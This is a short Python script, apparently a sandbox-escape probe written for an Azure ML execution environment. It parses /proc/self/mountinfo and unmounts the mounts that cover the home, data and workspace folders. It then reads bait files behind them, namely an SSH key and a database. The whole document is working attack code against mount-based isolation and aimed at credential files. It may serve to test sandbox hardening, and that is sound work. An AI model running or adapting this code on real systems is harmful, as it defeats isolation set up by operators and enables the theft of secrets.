"""Takes away whatever covers the hidden places, and looks at what was beneath."""

import os

from attack import BAIT, attack, c, every, read


def uncover(place):
    c("umount2", os.fsencode(place), 2)
    return ""


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    with open("/proc/self/mountinfo") as stream:
        places = [line.split()[4] for line in stream]
    hidden = [place for place in places if place.startswith((BAIT["home"], BAIT["data_folder"], BAIT["workspace"]))]
    try:
        every(uncover, reversed(hidden))
    except (OSError, LookupError):
        pass
    return every(read, [BAIT["ssh_key"], BAIT["database"]]) if hidden else ""
